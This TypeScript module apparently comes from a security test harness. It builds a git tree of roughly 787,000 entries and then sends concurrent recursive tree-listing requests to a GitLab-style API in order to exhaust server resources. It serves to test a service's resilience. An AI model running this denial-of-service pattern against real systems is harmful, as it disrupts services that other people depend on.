import { attack } from './attack.js';
import { ATTACKER } from './ground.js';
import type { NewProject } from './ground.js';
import { git } from './repositories.js';

const AT_ONCE = 6;
/** Entries of each folder, and folders in folders: 92 + 92² + 92³, of four objects. */
const ENTRIES = 92;
const DEPTH = 3;

async function hugeTree(project: NewProject): Promise<string> {
  let entry = `100644 blob ${await git(project, ['hash-object', '-w', '--stdin'], 'small\n')}`;
  for (let depth = 0; depth < DEPTH; depth += 1) {
    const lines = Array.from({ length: ENTRIES }, (_, index) => `${entry}\te${index.toString(36).padStart(2, '0')}\n`);
    entry = `040000 tree ${await git(project, ['mktree'], lines.join(''))}`;
  }
  return git(project, ['commit-tree', entry.slice(-40), '-m', 'Many files']);
}

/** First pages of a tree with everything below: of 787,000 entries. */
export const tree = attack({
  name: 'attack-tree',
  async prepare(ground) {
    const project = await ground.newProject(ATTACKER);
    await ground.publish(project, [{ name: 'huge', sha: await hugeTree(project) }]);
    return { id: project.id, token: await ground.tokenOf(ATTACKER) };
  },
  async run(attackers, { id, token }) {
    const path = `/api/v4/projects/${id}/repository/tree?ref=huge&recursive=true&per_page=100`;
    await attackers.several(AT_ONCE, () => attackers.ask({ path, token }));
  },
});
